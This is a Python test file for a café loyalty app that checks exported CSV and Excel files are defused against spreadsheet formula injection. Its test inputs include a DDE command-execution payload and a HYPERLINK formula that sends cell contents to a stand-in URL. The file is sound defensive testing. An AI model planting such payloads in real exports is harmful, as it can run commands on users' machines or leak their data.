"""A name that a table program would run: no cell that goes out leads with a formula's sign, in CSV or in the workbook.

Also not with a full-width sign, which a table program in Japanese takes for the narrow one, nor behind a tab or a line
break. What people typed comes back unharmed when the file is imported again.
"""

import csv
from collections.abc import AsyncIterator
from pathlib import Path

import openpyxl
import pytest

from loyalty.exchange import defused, live
from storage.exchange_out import write_out
from tests.security.cast import MAX, TOMAS, the_cafe
from tests.security.gate import Gate

LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "＝", "＋", "－", "＠")
FORMULAS = ("1+1", 'HYPERLINK("https://example.org?"&A1,"prize")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "IMPORTXML(1,2)")
ATTACKS = tuple(f"{behind}{lead}{formula}" for behind in ("", "'", "''") for lead in LEADS for formula in FORMULAS)
_WRITTEN = (
    "UPDATE members SET name = :attack",
    "UPDATE members SET phone = :attack WHERE id = 1",
    "UPDATE people SET name = :attack, telegram = telegram",
    "UPDATE places SET name = :attack WHERE id = 1",
    "UPDATE rewards SET title = :attack",
    "INSERT OR REPLACE INTO tags (member, tag) SELECT id, :attack FROM members",
)


@pytest.fixture
async def cafe(tmp_path: Path) -> AsyncIterator[Gate]:
    """The café; Ona has a full card and its voucher."""
    async with the_cafe(tmp_path / "cafe.db") as gate:
        for _ in range(4):
            gate.clock.forward(minutes=6)
            number = gate.value("SELECT number FROM cards c JOIN members m ON m.id = c.member WHERE m.name = 'Ona'")
            panel = await gate.says(MAX, str(number))
            await gate.taps(MAX, next(one for one in panel.buttons if one.startswith("earn:"))[:-1] + "3")
        yield gate


def would_run(cell: str) -> bool:
    """Whether any table program might."""
    return cell.startswith(LEADS)


def numeric(cell: str) -> bool:
    """A number of ours: units may be negative."""
    return cell.lstrip("-").replace(",", "").replace(".", "").isdigit()


async def test_no_cell_of_the_files_would_run(cafe: Gate, tmp_path: Path) -> None:
    for attack in ATTACKS[:: len(FORMULAS)]:  # every way to lead, with one formula each
        for sql in _WRITTEN:
            cafe.plants(sql.replace(":attack", "?1"), attack)
        folder = tmp_path / "out"
        folder.mkdir(exist_ok=True)
        files = write_out(cafe.path, folder, lambda title: title)
        seen = 0
        for file in files[:-1]:
            with file.open(encoding="utf-8-sig", newline="") as opened:
                cells = [cell for row in csv.reader(opened, delimiter=";") for cell in row]
            assert [cell for cell in cells if would_run(cell) and not numeric(cell)] == [], (file.name, attack)
            seen += sum(attack in cell for cell in cells)
        assert seen, f"{attack!r} should be in the files, defused"
        _no_formula_cell(files[-1])


def _no_formula_cell(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook, read_only=True)
    found = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    book.close()
    assert found == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_defused_is_read_back_as_it_was(attack: str) -> None:
    assert not would_run(defused(attack))
    assert live(defused(attack)) == attack


@pytest.mark.parametrize("name", ["Ona", "O'Neill", "'Ona'", "Jean-Luc", "a=b", "", "12", "€5"])
def test_what_is_no_formula_is_left_alone(name: str) -> None:
    assert defused(name) == name


async def test_a_name_in_telegram_is_no_formula_in_the_files_either(cafe: Gate, tmp_path: Path) -> None:
    """Through the doors: the name is taken from Telegram, cleaned, kept and written out."""
    cafe.names[TOMAS] = "=1+1"
    await cafe.says(TOMAS, "/start")
    await cafe.taps(TOMAS, "join")
    files = write_out(cafe.path, tmp_path, lambda title: title)
    assert "'=1+1" in files[0].read_text(encoding="utf-8-sig")
